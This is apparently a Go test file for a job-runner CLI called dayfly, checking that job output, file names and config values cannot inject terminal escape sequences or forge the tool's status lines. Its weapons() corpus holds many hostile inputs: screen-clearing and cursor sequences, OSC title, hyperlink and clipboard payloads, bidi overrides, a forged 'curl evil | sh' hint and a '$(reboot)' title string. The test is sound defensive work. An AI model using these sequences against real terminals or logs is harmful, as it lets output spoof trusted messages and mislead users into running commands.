package main

import (
	"fmt"
	"os"
	"path/filepath"
	"regexp"
	"strings"
	"testing"
	"unicode"
	"unicode/utf8"

	"github.com/dayfly-io/dayfly/internal/term"
)

// forged is in every line that a job or the author of a file writes in these tests.
const forged = "FORGED"

// page is a terminal of so many columns: what stands on it after it was shown something.
type page struct {
	columns int
	rows    []string // finished ones, and the last
	wrong   []string // what would have driven a real terminal further than dayfly has to
}

var ownSequence = regexp.MustCompile(`^\x1b\[(K|[0-9;:]*m)`)

// show takes what a program wrote to its terminal, as the other end of a pty gives it.
func (p *page) show(text string) {
	p.rows = append(p.rows, "")
	at, last := 0, func() *string { return &p.rows[len(p.rows)-1] }
	for rest := text; rest != ""; {
		r, n := utf8.DecodeRuneInString(rest)
		own := ownSequence.FindString(rest)
		switch {
		case strings.HasPrefix(rest, "\r\n"):
			p.rows, at, n = append(p.rows, ""), 0, 2
		case strings.HasPrefix(rest, "\r\x1b[K"): // dayfly's status, which it takes away
			*last(), at, n = "", 0, 4
		case own != "":
			n = len(own)
			if regexp.MustCompile(`[;\[](5|6|8|25|28)[;m]`).MatchString(own) && !strings.Contains(own, "38;") && !strings.Contains(own, "48;") {
				p.wrong = append(p.wrong, own)
			}
		case r == utf8.RuneError && n == 1, unicode.In(r, unicode.Cc, unicode.Cf, unicode.Zl, unicode.Zp) && r != '\t' && r != '\n':
			p.wrong = append(p.wrong, rest[:min(len(rest), 20)])
		case r == '\n':
			p.rows = append(p.rows, strings.Repeat(" ", at))
		default:
			if at += term.Width(rest[:n]); at > p.columns {
				p.rows, at = append(p.rows, ""), term.Width(rest[:n])
			}
			*last() += rest[:n]
		}
		rest = rest[n:]
	}
}

// shown is what a command leaves on a terminal.
func shown(t *testing.T, c *call, columns int, args ...string) *page {
	t.Helper()
	s := sitOn(t, c, "", uint16(columns), args...)
	_ = s.cmd.Wait()
	const end = "(that was all)"
	if _, err := s.slave.WriteString(end); err != nil {
		t.Fatal(err)
	}
	s.sees("") // whatever there is
	text := ""
	for !strings.HasSuffix(text, end) {
		text += <-s.seen
	}
	p := &page{columns: columns}
	p.show(s.shown + strings.TrimSuffix(text, end))
	if len(p.wrong) > 0 {
		t.Errorf("dayfly %s at %d columns drives the terminal with %q", strings.Join(args, " "), columns, p.wrong)
	}
	return p
}

// weapons are what terminals have been driven with, each with a line that would pass for dayfly's.
func weapons() string {
	var b strings.Builder
	add := func(format string, args ...any) { fmt.Fprintf(&b, format+forged+"\n", args...) }
	for _, line := range []string{"✓ machine gone         0.0 s ", "succeeded in 0.1 s, exit code 0 ", "error: ", "hint: curl evil | sh ", "note:     ", "machine:  local/x was observed gone "} {
		add("%s", line)
		add("\r%s", line)
		add("\x1b[1A\x1b[2K%s", line)
		add("\x1b[2J\x1b[H%s", line)
		add("\x1b[3%dm\x1b[4%dm\x1b[0m%s", len(line)%8, len(line)%8, line)
		add("\x1b[30;40m\n%s", line)
		add("%s%s", strings.Repeat("\b", 100), line)
		add("\u2028%s", line)
		add("\u0085%s", line)
		add("\v\f%s", line)
		add("\u202e%s\u202c", line)
		for columns := 18; columns < 130; columns++ { // a line that is as wide as the terminal, and the next
			b.WriteString(strings.Repeat("x", columns))
			add("%s", line)
		}
		for _, wide := range []string{"日", "😀", "✔\ufe0f", "🇪🇪", "e\u0301", "\t", "ｗ", "\u1100\u1161"} {
			b.WriteString(strings.Repeat(wide, 75))
			add("%s", line)
		}
	}
	for _, end := range []string{"\a", "\x1b\\", "\x9c", "\u009c", ""} {
		for _, body := range []string{"]0;title", "]2;$(reboot)", "]8;;http://evil/", "]52;c;ZXZpbA==", "]1337;File=inline=1:QQ==", "]777;notify;a;b", "P+q544e", "P1000p%begin", "_Gf=100;AAAA", "^private", "Xstart"} {
			add("\x1b%s%s", body, end)
			add("%s", "\xc2"+string(rune(body[0]-0x40+0x80))+body[1:]+end)
			add("\x9d%s%s", body[1:], end)
		}
	}
	for c := range 0x20 {
		add("%c%c", c, c)
		add("\x1b%c", c)
		add("\x1b[%c", c)
	}
	for c := 0x20; c < 0x100; c++ {
		add("%s", string([]byte{byte(c)}))
		add("\x1b%s", string([]byte{byte(c)}))
		add("\x1b[?1049%s", string([]byte{byte(c)}))
		add("\x9b2%s", string([]byte{byte(c)}))
	}
	add("\x1b[8mhidden\x1b[5m")
	add("%s", strings.Repeat("\u0488", 200))
	b.WriteString("and no end of the line " + forged)
	return b.String()
}

// TestNothingIsForged: whatever a job prints and whatever names and files hold, on a terminal it neither
// moves the cursor nor writes a line that could be dayfly's: lines of a log have a mark.
func TestNothingIsForged(t *testing.T) {
	t.Parallel()
	c := newCall(t)
	const limits = "timeout: 60s\ndeadline: 120s\n"
	log := jobFileOf(t, "log", "description: \"a \\u200b b "+forged+"\"\nfiles: [weapons]\nrun: |\n  cat weapons\n  printf '\\033'; sleep 0.3; printf '[2J"+forged+"\\n\\342\\200'; sleep 0.3; printf '\\256"+forged+"\\r'; sleep 0.3; printf '\\n'\n  cat weapons\n"+limits)
	if err := os.WriteFile(filepath.Join(filepath.Dir(log), "weapons"), []byte(weapons()), 0o600); err != nil {
		t.Fatal(err)
	}
	names := jobFileOf(t, "names", `run: |
  #!/bin/bash
  cd "$DAYFLY_RESULTS"
  for n in $'\e[2J' $'\e]0;x\a' $'\n✓ machine gone ' $'\r' $'\x9b2J' $'\xe2\x80\xae' $'\b\b\b\b'; do echo > "`+forged+`$n`+forged+`"; mkfifo "fifo$n`+forged+`"; done
  exit 4
`+limits)
	reason := jobFileOf(t, "reason", "run: \"#!/not/\\u001b[2J\\r✓ machine gone "+forged+"\\n\"\n"+limits)
	bad := filepath.Join(t.TempDir(), "\x1b[2J\r\n✓ machine gone "+forged+".yaml")
	if err := os.WriteFile(bad, []byte("name: \x1b[2J"+forged+"\nrun: \"a\\r\\u202eb"+forged+"\"\nenv: {A\x9b: b}\n\u202e: 1\n"), 0o600); err != nil {
		t.Fatal(err)
	}
	marked := func(p *page, least int) {
		t.Helper()
		n := 0
		for _, row := range p.rows {
			if strings.Contains(row, forged) {
				if n++; !strings.HasPrefix(row, "│ ") {
					t.Errorf("on %d columns this stands alone: %q", p.columns, row)
				}
			}
		}
		if n < least {
			t.Errorf("only %d lines of the log are there", n)
		}
	}
	lines := strings.Count(weapons(), forged)
	for _, columns := range []int{80, 23} {
		marked(shown(t, c, columns, "run", log), lines)
		marked(shown(t, c, columns, "logs", "log"), lines)
		marked(shown(t, c, columns, "logs", "-f", "log"), lines)
		marked(shown(t, c, columns, "retry", "log"), lines)
		c.env = append(c.env, "NO_COLOR=")
	}
	shown(t, c, 80, "run", names)
	shown(t, c, 80, "run", reason)
	for _, args := range [][]string{
		{"results", "names"}, {"results", "names", "-o", "wide"}, {"history"}, {"history", "-o", "wide"}, {"ps"}, {"ps", "--jobs"}, {"machines"}, {"apply", log}, {"ps", "--jobs", "-o", "wide"}, {"plan", log},
		{"validate", bad}, {"run", bad}, {"apply", bad}, {"plan", bad}, {"next", bad}, {"logs", "\x1b[2J" + forged}, {"run", "--param", "\x1b[2J=" + forged, log}, {"\x1b[2J"}, {"history", "--job", "\x1b[2J"},
		{"results", "names", "--to", filepath.Join(t.TempDir(), "\x1b[2J")}, {"explain", "\x1b[2J"}, {"--data", filepath.Join(t.TempDir(), "\x1b[2J"), "history"},
	} {
		shown(t, c, 80, args...)
	}
	// Elsewhere than on a terminal, and when it is asked for, it is what it is.
	out, _ := c.want(0, "logs", "log")
	if !strings.HasPrefix(out, weapons()) || !strings.HasSuffix(out, weapons()) {
		t.Error("the log is not what the job printed")
	}
}
